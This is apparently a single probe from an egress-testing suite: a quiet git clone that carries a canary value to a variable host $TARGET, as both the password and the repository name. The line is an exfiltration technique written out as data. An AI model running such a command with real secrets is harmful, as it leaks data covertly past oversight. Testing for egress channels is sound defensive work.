# tries: the value by git, as the name of a repository and as a password
# ends: nothing
# needs: git
GIT_TERMINAL_PROMPT=0 timeout 20 git clone -q "https://ada:$CANARY@$TARGET/$CANARY.git" /tmp/r 2>/dev/null || true
